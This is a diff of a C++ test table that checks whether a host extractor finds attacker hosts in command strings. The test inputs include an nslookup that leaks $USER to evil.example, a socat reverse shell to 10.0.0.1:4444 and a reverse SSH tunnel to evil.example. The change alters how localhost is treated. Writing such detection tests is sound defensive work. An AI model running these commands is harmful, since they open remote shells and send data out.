@@ -43,7 +43,7 @@ TEST(NamedHosts, AreFoundInWhatAttackersWrite) {
       {"('nslookup $USER.evil.example',)", {"evil.example"}},
       {"('dig @10.0.0.1 -p 53 x.evil.example',)", {"10.0.0.1", "x.evil.example"}},
       {"('socat TCP:10.0.0.1:4444 EXEC:sh',)", {"10.0.0.1:4444"}},
-      {"('ssh -R 9:localhost:22 root@evil.example',)", {"127.0.0.1:22", "evil.example"}},
+      {"('ssh -R 9:localhost:22 root@evil.example',)", {"evil.example"}},
       {"(('10.0.0.1', 4444),)", {"10.0.0.1:4444"}},
       {"(('attacker', 4444),)", {"attacker:4444"}},
       {"(('::1', 4444), ('2001:db8::2', 443))", {"[::1]:4444", "[2001:db8::2]:443"}},
